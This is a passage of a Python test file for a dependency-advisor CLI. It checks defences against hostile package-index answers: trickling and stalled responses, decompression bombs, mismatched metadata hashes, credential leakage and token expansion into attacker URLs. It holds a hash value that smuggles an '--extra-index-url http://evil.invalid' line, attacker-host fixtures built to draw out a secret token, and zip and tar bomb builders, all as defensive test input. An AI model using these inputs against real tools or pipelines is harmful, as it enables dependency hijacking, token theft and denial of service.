"""Hostile index answers, one test per attack, each against a real server on 127.0.0.1.

An index is read in pull-request CI, so what it sends is checked before it is used: the run's
deadline holds over every byte, bodies are decoded and capped in bounded steps, a PEP 658 file
must match its declared hash, hashes must be digests before ``--fix`` writes them, credentials
go only to the scheme, host and port they were given for, and index URLs from untrusted files
are not used (from trusted ones, ``${NAME}`` is expanded for requests only).

Hang tests bound the run with a subprocess timeout, and memory tests with ``RLIMIT_AS`` in the
subprocess: neither measures speed.
"""

from __future__ import annotations

import base64
import functools
import gzip
import hashlib
import io
import json
import os
import random
import resource
import signal
import socket
import ssl
import subprocess
import sys
import tarfile
import threading
import time
import types
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Self

import pytest
from packaging.version import Version

from advisor.errors import IndexUnavailable
from advisor.frontends.cli import main
from tests._helpers import index_argv, project_json, run_cli, run_python
from tests.indexserver import Connections, LocalIndex

ROOT = Path(__file__).resolve().parents[1]
DATA = Path(__file__).parent / "data" / "resolver-index"
TLS = Path(__file__).parent / "data" / "tls"
PROJECT = "ddtrace==2.21.4\nenvier==0.5.2\nbytecode==0.14.0\n"
PAGES = ("/simple/ddtrace/", "/simple/envier/", "/simple/bytecode/")
ARGS = ["-c", "iast", "--python", "3.12", "--today", "2026-11-24"]
JSON_TYPE = "application/vnd.pypi.simple.v1+json"
SECRET = "tok-s3cr3t-value"


# --- a server whose answers are functions --------------------------------------------------------


@dataclass(frozen=True)
class Seen:
    """One request: over TLS or not, its path and headers."""

    tls: bool
    path: str
    headers: dict[str, str]


Route = Callable[["_Handler"], None]


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def setup(self) -> None:
        super().setup()
        self.server.owner.connections.track(self.connection, True)

    def finish(self) -> None:
        self.server.owner.connections.track(self.connection, False)
        try:
            super().finish()
        except OSError:
            pass

    def do_GET(self) -> None:
        owner = self.server.owner
        owner.record(
            Seen(isinstance(self.connection, ssl.SSLSocket), self.path, dict(self.headers.items()))
        )
        route = owner.routes.get(self.path)
        try:
            if route is None:
                answer(404, b"not found", "text/plain")(self)
            else:
                route(self)
        except OSError:
            self.close_connection = True


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, owner: Hostile) -> None:
        self.owner = owner
        super().__init__(("127.0.0.1", 0), _Handler)

    def finish_request(self, request: Any, client_address: Any) -> None:
        # One port speaks both: TLS when the first byte opens a handshake, plain HTTP otherwise
        # (so an https index and an http URL on the same host and port can be told apart).
        wrapped = None
        if self.owner.context is not None:
            try:
                first = request.recv(1, socket.MSG_PEEK)
                if first == b"\x16":
                    wrapped = request = self.owner.context.wrap_socket(request, server_side=True)
            except (OSError, ssl.SSLError):
                return
        try:
            self.RequestHandlerClass(request, client_address, self)  # type: ignore[arg-type]  # typeshed's Self
        finally:
            if wrapped is not None:
                wrapped.close()

    def handle_error(self, request: Any, client_address: Any) -> None:
        return


class Hostile:
    """A local server answering ``routes[path](handler)``; 404 for any other path.

    :param routes: request path (query included) -> a function writing the whole response.
    :param tls: also speak TLS on the same port (the certificate of ``tests/data/tls``).
    """

    def __init__(self, routes: dict[str, Route] | None = None, tls: bool = False) -> None:
        self.routes = routes or {}
        self.context: ssl.SSLContext | None = None
        if tls:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.context.load_cert_chain(TLS / "cert.pem", TLS / "key.pem")
        self.seen: list[Seen] = []
        self.stop = threading.Event()
        self._lock = threading.Lock()
        self.connections = Connections()
        self._server: _Server | None = None

    @property
    def port(self) -> int:
        assert self._server is not None
        return int(self._server.server_address[1])

    def url(self, path: str = "/simple/", scheme: str = "http") -> str:
        return f"{scheme}://127.0.0.1:{self.port}{path}"

    def record(self, seen: Seen) -> None:
        with self._lock:
            self.seen.append(seen)

    def __enter__(self) -> Self:
        self._server = _Server(self)
        threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        ).start()
        return self

    def __exit__(self, *exc: object) -> None:
        assert self._server is not None
        self.stop.set()
        self.connections.stop(self._server)


def answer(status: int, body: bytes, content_type: str = JSON_TYPE, **headers: str) -> Route:
    """A whole response at once."""

    def route(h: _Handler) -> None:
        h.send_response(status)
        h.send_header("Content-Type", content_type)
        for name, value in headers.items():
            h.send_header(name.replace("_", "-"), value)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    return route


def trickle(part: str) -> Route:
    """A response that sends one byte every 0.2 s, in its headers or its body, until the test ends."""

    def route(h: _Handler) -> None:
        stop = h.server.owner.stop
        h.wfile.write(b"HTTP/1.1 200 OK\r\n")
        if part == "headers":
            h.wfile.write(b"X-Slow: ")
        else:
            h.wfile.write(f"Content-Type: {JSON_TYPE}\r\nContent-Length: 1000000\r\n\r\n".encode())
        h.wfile.flush()
        while not stop.wait(0.2):
            h.wfile.write(b"a" if part == "headers" else b" ")
            h.wfile.flush()
        h.close_connection = True

    return route


def stall(h: _Handler) -> None:
    """Never answer (until the test ends)."""
    h.server.owner.stop.wait(60)
    h.close_connection = True


def recorded_page(project: str, edit: Callable[[dict[str, Any]], None] | None = None) -> bytes:
    """The recorded PEP 691 page of ``project``, optionally edited."""
    page = json.loads((DATA / "simple" / project / "index.json").read_text())
    if edit is not None:
        edit(page)
    return json.dumps(page).encode()


# --- running the command -------------------------------------------------------------------------


def run_bounded(
    *args: str, timeout: float = 60, memory: int | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """``python -m advisor ARGS`` in a subprocess, bounded in time (and address space)."""

    def limit() -> None:
        if memory is not None:
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    environ = {**os.environ, "MALLOC_ARENA_MAX": "2", **(env or {})}
    return run_cli(*args, timeout=timeout, env=environ, preexec_fn=limit)


@functools.cache
def baseline_memory() -> int:
    """Peak address space of an ordinary online run against the recorded index (bytes)."""
    probe = (
        "import resource, runpy, sys\n"
        "sys.argv = ['aap-advise', *sys.argv[1:]]\n"
        "try:\n    runpy.run_module('advisor', run_name='__main__')\n"
        "except SystemExit:\n    pass\n"
        "for line in open('/proc/self/status'):\n"
        "    if line.startswith('VmPeak:'):\n        sys.stderr.write('PEAK ' + line.split()[1] + '\\n')\n"
    )
    import tempfile

    with LocalIndex(root=DATA) as index, tempfile.TemporaryDirectory() as tmp:
        req = Path(tmp) / "requirements.txt"
        req.write_text(PROJECT)
        out = run_python(
            "-c",
            probe,
            str(req),
            "--index-url",
            index.url,
            "--cache-dir",
            str(Path(tmp) / "c"),
            *ARGS,
            timeout=120,
            env={**os.environ, "MALLOC_ARENA_MAX": "2"},
        )
    peak = [line for line in out.stderr.splitlines() if line.startswith("PEAK ")]
    assert peak, out.stderr
    return int(peak[0].split()[1]) * 1024


def requirements(tmp_path: Path, text: str = PROJECT) -> Path:
    req = tmp_path / "requirements.txt"
    req.write_text(text)
    return req


# --- the deadline holds over every byte ----------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("part", ["body", "headers"])
def test_a_trickling_index_is_cut_at_the_deadline(part: str, tmp_path: Path) -> None:
    with Hostile({p: trickle(part) for p in PAGES}) as server:
        proc = run_bounded(
            *index_argv(requirements(tmp_path), server.url(), tmp_path / "c"),
            "--timeout",
            "5",
            "--deadline",
            "2",
            *ARGS,
            timeout=30,
        )
    assert proc.returncode == 3, proc.stderr
    first = proc.stderr.splitlines()[0]
    assert first.startswith("aap-advise: error: ") and "2 s deadline" in first, proc.stderr
    assert "Traceback" not in proc.stderr


def test_ctrl_c_ends_a_run_waiting_on_a_stalled_index(tmp_path: Path) -> None:
    # Background page fetches are on the wire (stalled) when Ctrl-C comes: none may keep the
    # process alive. The bound is a hang bound, not a timing assertion.
    with Hostile(dict.fromkeys(PAGES, stall)) as server:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "advisor",
                *index_argv(requirements(tmp_path), server.url(), tmp_path / "c"),
                "--timeout",
                "60",
                "--deadline",
                "60",
                *ARGS,
            ],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            waited = time.monotonic()
            while (
                len({s.path for s in server.seen}) < len(PAGES) and time.monotonic() - waited < 30
            ):
                time.sleep(0.05)
            assert len({s.path for s in server.seen}) == len(PAGES), (
                "the run never asked for the pages"
            )
            proc.send_signal(signal.SIGINT)
            code = proc.wait(timeout=10)
        finally:
            if proc.poll() is None:
                proc.kill()
            proc.communicate()
    assert code == 130


# --- size caps hold memory ---------------------------------------------------------------------------


@functools.cache
def empty_objects_gzip(megabytes: int) -> bytes:
    """A gzip'd JSON page of ``megabytes`` MB: a files list of empty objects (``{},`` repeated)."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6) as gz:
        gz.write(b'{"meta": {"api-version": "1.1"}, "name": "ddtrace", "files": [')
        block = b"{}," * (1024 * 1024 // 3)
        for _ in range(megabytes):
            gz.write(block)
        gz.write(b"{}]}")
    return out.getvalue()


@functools.cache
def million_files_gzip() -> bytes:
    """A gzip'd page of a million small but well-formed file entries."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6) as gz:
        gz.write(b'{"meta": {"api-version": "1.1"}, "name": "ddtrace", "files": [')
        for n in range(1_000_000):
            gz.write(
                b'{"filename": "ddtrace-%d.0-py3-none-any.whl", "url": "f%d", "hashes": {}},'
                % (n % 500, n)
            )
        gz.write(b'{"filename": "ddtrace-1.0.tar.gz", "url": "x", "hashes": {}}]}')
    return out.getvalue()


@pytest.mark.slow
@pytest.mark.parametrize("case", ["gzip", "gzip-twice", "million-files"])
def test_compressed_and_huge_pages_are_capped_in_memory(case: str, tmp_path: Path) -> None:
    if (
        case == "gzip"
    ):  # 200 MB of JSON: under the old 256 MB cap, and millions of dicts once parsed
        body, coding = empty_objects_gzip(200), "gzip"
    elif case == "gzip-twice":  # a stacked coding: each 64 KiB read inflated whole, twice over
        body, coding = gzip.compress(empty_objects_gzip(600)), "gzip, gzip"
    else:
        body, coding = million_files_gzip(), "gzip"
    limit = baseline_memory() + 384 * 1024 * 1024
    with Hostile({p: answer(200, body, Content_Encoding=coding) for p in PAGES}) as server:
        proc = run_bounded(
            *index_argv(requirements(tmp_path), server.url(), tmp_path / "c"),
            "--deadline",
            "20",
            *ARGS,
            timeout=60,
            memory=limit,
        )
    assert proc.returncode == 3, proc.stderr[-2000:]
    first = proc.stderr.splitlines()[0]
    # ddtrace's own page is read first (an index that cannot list it ends the run): its cap,
    # or the run's cap on every page read together, is what stops it.
    assert first.startswith("aap-advise: error: "), proc.stderr[-2000:]
    assert "cap" in first or "exceed" in first, proc.stderr[-2000:]


def test_page_with_too_many_files_is_refused_before_parsing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from advisor.index import jsonpage, simple

    monkeypatch.setattr(simple, "MAX_PAGE_FILES", 100)
    # A page is read as it arrives, each value decoded by json's own scanner: count the values
    # each page's reader decodes.
    real = vars(json.JSONDecoder())["scan_once"]
    decoded: list[list[int]] = []

    def decoder() -> Any:
        count = [0]
        decoded.append(count)

        def scan_once(text: str, idx: int) -> Any:
            found = real(text, idx)
            count[0] += 1
            return found

        return types.SimpleNamespace(scan_once=scan_once)

    monkeypatch.setattr(
        jsonpage,
        "json",
        types.SimpleNamespace(
            JSONDecoder=decoder,
            JSONDecodeError=json.JSONDecodeError,
            detect_encoding=json.detect_encoding,
        ),
    )
    with LocalIndex(root=DATA) as index:
        code = main(
            index_argv(requirements(tmp_path), index.url, tmp_path / "c", *ARGS, "--format", "json")
        )
    err = capsys.readouterr().err
    assert code == 3, err  # the recorded pages list up to 433 files
    assert err.startswith("aap-advise: error: ") and "lists more than 100 files" in err
    # Nothing is decoded past the point where the page holds more objects than 100 files hold
    # (ddtrace's 433 files: a few top-level keys and values besides them).
    assert decoded and max(c[0] for c in decoded) <= 4 * 100 + 16 + 8, decoded


def test_a_page_nested_too_deeply_is_invalid_json(tmp_path: Path) -> None:
    # 200 KB of "[": json.loads raised RecursionError, reported as an internal error (exit 2).
    with Hostile({p: answer(200, b"[" * 200_000) for p in PAGES}) as server:
        proc = run_bounded(
            *index_argv(requirements(tmp_path), server.url(), tmp_path / "c"),
            "--deadline",
            "20",
            *ARGS,
            timeout=60,
        )
    assert proc.returncode == 3, proc.stderr[-2000:]
    first = proc.stderr.splitlines()[0]
    assert first.startswith("aap-advise: error: ") and "invalid JSON" in first, proc.stderr[-2000:]
    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr


SDIST_PKG_INFO = (
    b"Metadata-Version: 2.2\nName: envier\nVersion: 0.6.1\nRequires-Dist: bytecode<0.15\n"
)


@functools.cache
def sdist_bomb(kind: str) -> bytes:
    """envier 0.6.1's sdist, hostile: ``tar.gz``, 256 MiB of zeros before its PKG-INFO; ``bz2``,
    a bzip2'd tar (served as ``.tar.gz``); ``zip``, a PKG-INFO of 256 MiB of zeros."""
    zeros, chunk = 256 * 1024 * 1024, b"\0" * (16 * 1024 * 1024)
    if kind == "tar.gz":
        comp = zlib.compressobj(1, zlib.DEFLATED, zlib.MAX_WBITS | 16)
        big = tarfile.TarInfo("envier-0.6.1/big")
        big.size = zeros
        out = [comp.compress(big.tobuf(format=tarfile.GNU_FORMAT))]
        out += [comp.compress(chunk) for _ in range(zeros // len(chunk))]
        info = tarfile.TarInfo("envier-0.6.1/PKG-INFO")
        info.size = len(SDIST_PKG_INFO)
        padding = b"\0" * (-len(SDIST_PKG_INFO) % 512 + 1024)
        out += [
            comp.compress(info.tobuf(format=tarfile.GNU_FORMAT) + SDIST_PKG_INFO + padding),
            comp.flush(),
        ]
        return b"".join(out)
    buf = io.BytesIO()
    if kind == "bz2":
        with tarfile.open(fileobj=buf, mode="w:bz2") as tf:
            info = tarfile.TarInfo("envier-0.6.1/PKG-INFO")
            info.size = len(SDIST_PKG_INFO)
            tf.addfile(info, io.BytesIO(SDIST_PKG_INFO))
        return buf.getvalue()
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open("envier-0.6.1/PKG-INFO", "w", force_zip64=True) as fh,
    ):
        for _ in range(zeros // len(chunk)):
            fh.write(chunk)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("kind", "refusal"),
    [
        ("tar.gz", "sdist refused: it inflates past 134217728 bytes before its PKG-INFO"),
        ("bz2", "sdist refused: not a gzip'd tar or a zip archive"),
        ("zip", "sdist refused: its PKG-INFO is 268435456 bytes, over the 1048576-byte cap"),
    ],
)
def test_an_sdist_is_read_within_its_caps(kind: str, refusal: str, tmp_path: Path) -> None:
    """envier 0.6.1 (the version the run moves to) has only an sdist, so its PKG-INFO is read
    from it: a tar is streamed and counted (``r:*`` inflated all of it, bz2 too, before
    looking), a zip's PKG-INFO is checked against its declared size before it is inflated
    (``zf.read`` inflated it whole). Each ends in the usual index error, as a bad wheel does."""
    name = "envier-0.6.1.zip" if kind == "zip" else "envier-0.6.1.tar.gz"

    def only_sdist(page: dict[str, Any]) -> None:
        page["files"] = [
            f for f in page["files"] if f["filename"] != "envier-0.6.1-py3-none-any.whl"
        ]
        for f in page["files"]:
            if f["filename"] == "envier-0.6.1.tar.gz":
                f["filename"], f["url"] = name, f"../../files/{name}"

    body = sdist_bomb(kind)
    limit = baseline_memory() + 384 * 1024 * 1024
    with LocalIndex(
        root=DATA,
        garbage_for={"/simple/envier/": recorded_page("envier", only_sdist)},
        extra_files={name: body},
    ) as index:
        proc = run_bounded(
            *index_argv(requirements(tmp_path), index.url, tmp_path / "c"),
            "--deadline",
            "30",
            *ARGS,
            timeout=90,
            memory=limit,
        )
        fetched = [r.path for r in index.requests if r.path.endswith(name)]
    assert fetched, "the sdist was never read"
    assert proc.returncode == 3, proc.stderr[-2000:]
    first = proc.stderr.splitlines()[0]
    assert first.startswith("aap-advise: error: ") and f"/files/{name}: {refusal}" in first, (
        proc.stderr[-2000:]
    )


# --- PEP 658 metadata must match its declared hash -----------------------------------------------


def test_lying_metadata_file_is_not_believed_nor_cached(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wheel = "envier-0.6.1-py3-none-any.whl"
    with zipfile.ZipFile(DATA / "files" / wheel) as zf:
        truth = zf.read("envier-0.6.1.dist-info/METADATA")
    lie = b"Metadata-Version: 2.1\nName: envier\nVersion: 0.6.1\nRequires-Dist: bytecode<0.15\n"

    def declare(page: dict[str, Any]) -> None:
        for f in page["files"]:
            if f["filename"] == wheel:
                f["core-metadata"] = {"sha256": hashlib.sha256(truth).hexdigest()}

    def advise(cache: Path) -> dict[str, Any]:
        code = main(index_argv(requirements(tmp_path), index.url, cache, *ARGS, "--format", "json"))
        report: dict[str, Any] = project_json(capsys.readouterr().out)
        assert code == 1, report
        return report

    with LocalIndex(
        root=DATA,
        garbage_for={"/simple/envier/": recorded_page("envier", declare)},
        extra_files={wheel + ".metadata": lie},
    ) as index:
        first = advise(tmp_path / "c")
        ranged = [r for r in index.requests if r.path.endswith(wheel) and "Range" in r.headers]
        second = advise(tmp_path / "c")
    for report in (first, second):
        moved = {c["package"]: c["to"] for c in report["recommendation"]["changes"]}
        assert moved == {"ddtrace": "3.15.0", "envier": "0.6.1", "bytecode": "0.15.1"}
    assert ranged, "the wheel itself was not read after the metadata file failed its hash"
    notes = [f["message"] for f in first["findings"] if "does not match" in f["message"]]
    assert notes and "envier-0.6.1-py3-none-any.whl.metadata" in notes[0]
    for entry in (tmp_path / "c").rglob("*.json"):
        assert "bytecode<0.15" not in entry.read_text()


# --- hashes written by --fix -----------------------------------------------------------------------


HASHED = "".join(f"{line} --hash=sha256:{'ab' * 32}\n" for line in PROJECT.splitlines())


def test_a_hash_holding_a_newline_refuses_the_fix(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    injected = "a" * 64 + "\n--extra-index-url http://evil.invalid/simple/\nevil==1.0"

    def poison(page: dict[str, Any]) -> None:
        for f in page["files"]:
            if f["filename"].startswith("ddtrace-3.15.0-"):
                f["hashes"]["sha256"] = injected

    req = requirements(tmp_path, HASHED)
    with LocalIndex(
        root=DATA, garbage_for={"/simple/ddtrace/": recorded_page("ddtrace", poison)}
    ) as index:
        code = main(
            [str(req), "--fix", "--index-url", index.url, "--cache-dir", str(tmp_path / "c"), *ARGS]
        )
    err = capsys.readouterr().err
    assert code == 2, err
    assert req.read_text() == HASHED  # nothing written
    line = next(li for li in err.splitlines() if "malformed" in li)
    assert (
        line.startswith("aap-advise: error: ")
        and "malformed sha256 digest for 'ddtrace-3.15.0-" in line
    )
    assert "--extra-index-url" not in err


def test_the_fix_reads_hashes_with_the_runs_credentials_and_cache(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], netrc_bob: None
) -> None:
    req = requirements(tmp_path, HASHED)
    with LocalIndex(root=DATA) as index:
        argv = index_argv(req, index.url, tmp_path / "c", "--diff", *ARGS)
        code = main(argv)
        auth = {r.headers.get("Authorization") for r in index.requests}
        diff = capsys.readouterr().out
        assert code == 1 and "+ddtrace==3.15.0" in diff
        assert auth == {"Basic Ym9iOm4zdHJj"}  # every request, the hash lookup's too
        # The hashes were cached with the pages: the index going down changes nothing.
        index.status_for.update(dict.fromkeys(PAGES, 500))
        again = main(argv)
    out = capsys.readouterr()
    assert again == 1 and out.out == diff, out.err


# --- credentials ---------------------------------------------------------------------------------


def _basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


@pytest.mark.parametrize("where", ["userinfo", "netrc"])
def test_https_credentials_never_go_to_http_on_the_same_host(
    where: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from advisor.index.source import IndexSource

    monkeypatch.setenv("SSL_CERT_FILE", str(TLS / "cert.pem"))
    netrc = tmp_path / "netrc"
    if where == "netrc":
        netrc.write_text("machine 127.0.0.1 login alice password s3cret\n")
        netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    wheel = "envier-0.5.2-py3-none-any.whl"
    content = (DATA / "files" / wheel).read_bytes()
    with Hostile(tls=True) as server:

        def page(h: _Handler) -> None:
            files = [
                {
                    "filename": wheel,
                    "url": server.url(f"/files/{wheel}", "http"),
                    "size": len(content),
                    "hashes": {"sha256": hashlib.sha256(content).hexdigest()},
                }
            ]
            answer(
                200,
                json.dumps(
                    {"meta": {"api-version": "1.1"}, "name": "envier", "files": files}
                ).encode(),
            )(h)

        server.routes["/simple/envier/"] = page
        server.routes[f"/files/{wheel}"] = answer(200, content, "application/octet-stream")
        userinfo = "alice:s3cret@" if where == "userinfo" else ""
        source = IndexSource(
            [f"https://{userinfo}127.0.0.1:{server.port}/simple/"], None, timeout=5, deadline=10
        )
        try:
            source.requires_dist("envier", Version("0.5.2"))
        finally:
            source.close()
    over_tls = [s for s in server.seen if s.tls]
    plain = [s for s in server.seen if not s.tls]
    assert over_tls and all(
        s.headers.get("Authorization") == _basic("alice", "s3cret") for s in over_tls
    )
    assert plain and not any("Authorization" in s.headers for s in plain)


def test_a_password_holding_an_at_sign_is_never_shown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with LocalIndex(root=DATA, status_for=dict.fromkeys(PAGES, 500)) as index:
        plain = index.url
        url = plain.replace("http://", "http://alice:p@ss@")
        code = main(index_argv(requirements(tmp_path), url, tmp_path / "c", *ARGS))
        auth = {r.headers.get("Authorization") for r in index.requests}
    out = capsys.readouterr()
    assert code == 3
    shown = out.out + out.err
    assert "p@ss" not in shown and "ss@" not in shown and "alice" not in shown
    assert plain in shown
    assert auth == {_basic("alice", "p@ss")}


# --- index URLs named in files -------------------------------------------------------------------


def _requirements(tmp_path: Path, url: str) -> Path:
    req = tmp_path / "requirements.txt"
    req.write_text(f"--index-url {url}\nddtrace==2.21.4\nenvier==0.5.2\nbytecode==0.14.0\n")
    return req


def _pipfile(tmp_path: Path, url: str) -> Path:
    pipfile = tmp_path / "Pipfile"
    pipfile.write_text(
        f'[[source]]\nname = "private"\nurl = "{url}"\nverify_ssl = true\n\n'
        '[packages]\nddtrace = "==2.21.4"\nenvier = "==0.5.2"\nbytecode = "==0.14.0"\n'
    )
    return pipfile


@pytest.fixture
def clean_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text("")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
    for name in (
        "PIP_INDEX_URL",
        "PIP_EXTRA_INDEX_URL",
        "UV_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "UV_INDEX",
        "UV_EXTRA_INDEX_URL",
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AAP_TEST_TOKEN", SECRET)


@pytest.mark.usefixtures("clean_env")
def test_untrusted_files_name_no_index(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    with Hostile() as attacker, LocalIndex(root=DATA) as configured:
        written = attacker.url("/${AAP_TEST_TOKEN}/simple/").replace(
            "http://", "http://mallory:pw@"
        )
        pipfile = _pipfile(tmp_path, written)
        monkeypatch.setenv("PIP_INDEX_URL", configured.url)  # what the workflow configured
        code = main(
            [
                str(pipfile),
                "--untrusted",
                "--cache-dir",
                str(tmp_path / "c"),
                *ARGS,
                "--format",
                "json",
            ]
        )
    out = capsys.readouterr()
    report = project_json(out.out)
    assert code == 1 and report["recommendation"]["ddtrace"] == "3.15.0"
    assert attacker.seen == [] and configured.requests
    ignored = [f for f in report["findings"] if f["id"] == "index-ignored"]
    assert len(ignored) == 1 and ignored[0]["severity"] == "info"
    assert (
        attacker.url("/${AAP_TEST_TOKEN}/simple/") in ignored[0]["message"]
    )  # as written, no credentials
    assert SECRET not in out.out + out.err and "mallory" not in out.out + out.err


@pytest.mark.usefixtures("clean_env")
@pytest.mark.parametrize("make", [_pipfile, _requirements], ids=["Pipfile", "requirements"])
def test_trusted_files_expand_variables_for_requests_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], make: Callable[[Path, str], Path]
) -> None:
    """The attack as reported: ``--index-url http://HOST/${SECRET}/simple/`` in a file."""
    written = "/${AAP_TEST_TOKEN}/simple/"
    with LocalIndex(root=DATA, prefix=f"/{SECRET}") as index:
        pipfile = make(tmp_path, f"{index.base}{written}")
        code = main([str(pipfile), "--cache-dir", str(tmp_path / "c"), *ARGS, "--format", "json"])
        paths = {r.path for r in index.requests}
        base = index.base
    out = capsys.readouterr()
    assert code == 1 and project_json(out.out)["recommendation"]["ddtrace"] == "3.15.0"
    assert f"/{SECRET}/simple/ddtrace/" in paths  # the request used the expanded URL
    assert SECRET not in out.out + out.err
    entries = [e.read_text() for e in (tmp_path / "c").rglob("*.json")]
    assert entries and not any(SECRET in e for e in entries)
    assert any(f"{base}{written}envier/" in e for e in entries)  # cache url fields as written

    # Errors show the URL as written too, in every format.
    for fmt in ("text", "json"):
        with LocalIndex(
            root=DATA, prefix=f"/{SECRET}", status_for=dict.fromkeys(PAGES, 500)
        ) as index:
            pipfile = make(tmp_path, f"{index.base}{written}")
            code = main(
                [str(pipfile), "--cache-dir", str(tmp_path / f"e-{fmt}"), *ARGS, "--format", fmt]
            )
            base = index.base
        out = capsys.readouterr()
        assert code == 3
        assert f"{base}{written}" in out.err and SECRET not in out.out + out.err


def _answer_page(index: Hostile, attacker: Hostile, prefix: str) -> Route:
    """A page listing, for version 98.0 (the one a run pinning it reads first), a wheel on another host
    with ``${AAP_TEST_TOKEN}`` in its query, and for 99.0 one on the index's own host with
    ``${AAP_TEST_TOKEN}`` in its path (an absolute URL: not the index's expanded prefix)."""

    def route(h: _Handler) -> None:
        name = h.path.rstrip("/").rsplit("/", 1)[-1]
        wheel = f"{name}-{{}}-py3-none-any.whl"
        files = [
            {
                "filename": wheel.format("98.0"),
                "hashes": {},
                "core-metadata": True,
                "url": attacker.url(f"/{wheel.format('98.0')}?${{AAP_TEST_TOKEN}}"),
            },
            {
                "filename": wheel.format("99.0"),
                "hashes": {},
                "core-metadata": True,
                "url": index.url(f"{prefix and '/${AAP_TEST_TOKEN}'}/files/{wheel.format('99.0')}"),
            },
        ]
        body = {
            "meta": {"api-version": "1.0"},
            "name": name,
            "versions": ["98.0", "99.0"],
            "files": files,
        }
        answer(200, json.dumps(body).encode())(h)

    return route


@pytest.mark.usefixtures("clean_env")
@pytest.mark.parametrize("where", ["userinfo", "path"])
def test_a_variable_an_index_answer_writes_is_never_expanded(
    where: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A trusted ``--index-url`` holding ``${AAP_TEST_TOKEN}``: the page's own ``${...}`` text is
    requested as sent, to the other host as to the index's, never with the token."""
    from advisor.index.source import IndexSource
    from advisor.index.urls import IndexURL

    with Hostile() as attacker, Hostile() as index:
        prefix = f"/{SECRET}" if where == "path" else ""
        for name in ("ddtrace", "envier", "bytecode"):
            index.routes[f"{prefix}/simple/{name}/"] = _answer_page(index, attacker, prefix)
        written = (
            index.url("/${AAP_TEST_TOKEN}/simple/")
            if where == "path"
            else index.url().replace("http://", "http://__token__:${AAP_TEST_TOKEN}@")
        )
        # envier pinned at 98.0 (the page's other-host wheel): the project's own requirements
        # are read first, as they are (issue 16 rule 2), so that is the file asked for first.
        req = requirements(tmp_path, f"--index-url {written}\nddtrace==2.3.0\nenvier==98.0\n")
        code = main([str(req), "--cache-dir", str(tmp_path / "c"), "--deadline", "20", *ARGS])
        # Both versions read directly, so each file URL is asked for whatever the resolver tries.
        source = IndexSource(
            [IndexURL.from_file(written, os.environ)], None, timeout=5, deadline=20
        )
        try:
            for version in ("99.0", "98.0"):
                with pytest.raises(IndexUnavailable):
                    source.requires_dist("envier", Version(version))
        finally:
            source.close()
    out = capsys.readouterr()
    assert code == 3 and "?${AAP_TEST_TOKEN}.metadata: HTTP 404" in out.err, out.err
    to_attacker = [s.path for s in attacker.seen]
    assert to_attacker and all(p.endswith("?${AAP_TEST_TOKEN}.metadata") for p in to_attacker), (
        to_attacker
    )
    own_files = [s.path for s in index.seen if "/files/" in s.path]
    assert own_files and not any(SECRET in p for p in own_files), own_files
    assert all(SECRET not in str(s.headers) for s in attacker.seen)
    pages = [s for s in index.seen if "/simple/" in s.path]
    if where == "path":  # the user's own URL was expanded for its requests
        assert pages and all(s.path.startswith(f"/{SECRET}/simple/") for s in pages)
    else:
        assert pages and all(
            s.headers.get("Authorization") == _basic("__token__", SECRET) for s in pages
        )
    assert SECRET not in out.out + out.err
    entries = [e.read_text() for e in (tmp_path / "c").rglob("*.json")]
    assert entries and not any(SECRET in e for e in entries)


PEP621 = '[project]\nname = "app"\nversion = "0"\ndependencies = ["ddtrace==2.21.4", "envier==0.5.2", "bytecode==0.14.0"]\n'
PIPFILE_LOCK = (
    '{"_meta": {"sources": [{"name": "p", "url": "{url}", "verify_ssl": true}]}, '
    '"default": {"ddtrace": {"version": "==2.21.4"}}, "develop": {}}'
)
UV_LOCK = 'version = 1\nrequires-python = ">=3.9"\n\n' + "".join(
    f'[[package]]\nname = "{n}"\nversion = "{v}"\nsource = {{ registry = "{{url}}" }}\n\n'
    for n, v in (("ddtrace", "2.21.4"), ("envier", "0.5.2"), ("bytecode", "0.14.0"))
)


@pytest.mark.usefixtures("clean_env")
@pytest.mark.parametrize(
    ("name", "text", "expanded"),
    [
        ("requirements.txt", "--index-url {url}\n" + PROJECT, True),  # pip
        (
            "Pipfile",
